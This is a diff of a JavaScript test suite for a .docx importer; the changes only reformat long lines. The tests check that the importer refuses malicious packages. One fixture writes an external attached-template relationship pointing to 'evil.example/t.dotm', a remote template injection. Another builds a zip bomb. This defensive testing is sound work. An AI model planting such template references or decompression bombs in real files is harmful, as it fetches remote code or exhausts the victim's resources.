@@ -22,7 +22,12 @@ describe('importing .docx', () => {
   it('keeps headings, paragraphs, a bullet list, bold, italic and links, with title and author', async () => {
     const doc = await importDocx(await buildDocxFixture());
     assertInSchema(doc.content);
-    expect(doc).toMatchObject({ format: 'docx', title: 'The Thaw', author: 'Ada Reader', sourceUrl: null });
+    expect(doc).toMatchObject({
+      format: 'docx',
+      title: 'The Thaw',
+      author: 'Ada Reader',
+      sourceUrl: null,
+    });
     expect(doc.text).toBe(
       [
         'The Khrushchev Era',
@@ -79,7 +84,11 @@ describe('importing .docx', () => {
       'word/_rels/settings.xml.rels',
       '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
     );
-    await expectImportError(importDocx(await zip.generateAsync({ type: 'uint8array' })), 422, /outside itself/);
+    await expectImportError(
+      importDocx(await zip.generateAsync({ type: 'uint8array' })),
+      422,
+      /outside itself/,
+    );
   });
 
   it('refuses a package that unzips to far more than the limit allows (a zip bomb)', async () => {
@@ -87,7 +96,11 @@ describe('importing .docx', () => {
     zip.file('word/media/padding.bin', new Uint8Array(6 * 1024 * 1024));
     const bytes = await zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
     expect(bytes.byteLength).toBeLessThan(100 * 1024);
-    await expectImportError(importDocx(bytes, { maxBytes: 100 * 1024 }), 413, /unpacks to more than 4.9 MB/);
+    await expectImportError(
+      importDocx(bytes, { maxBytes: 100 * 1024 }),
+      413,
+      /unpacks to more than 4.9 MB/,
+    );
     await expect(importDocx(bytes)).resolves.toMatchObject({ format: 'docx' });
   });
 
@@ -106,12 +119,20 @@ describe('importing .docx', () => {
 
   it('refuses a zip without a Word body as damaged', async () => {
     const zip = new JSZip().file('notes.txt', 'hello');
-    await expectImportError(importDocx(await zip.generateAsync({ type: 'uint8array' })), 422, /damaged/);
+    await expectImportError(
+      importDocx(await zip.generateAsync({ type: 'uint8array' })),
+      422,
+      /damaged/,
+    );
   });
 
   it('answers 400 for a document with no text in it', async () => {
     const { Document, Packer, Paragraph } = await import('docx');
     const empty = new Document({ sections: [{ children: [new Paragraph({ text: '   ' })] }] });
-    await expectImportError(importDocx(new Uint8Array(await Packer.toBuffer(empty))), 400, /no readable text/);
+    await expectImportError(
+      importDocx(new Uint8Array(await Packer.toBuffer(empty))),
+      400,
+      /no readable text/,
+    );
   });
 });
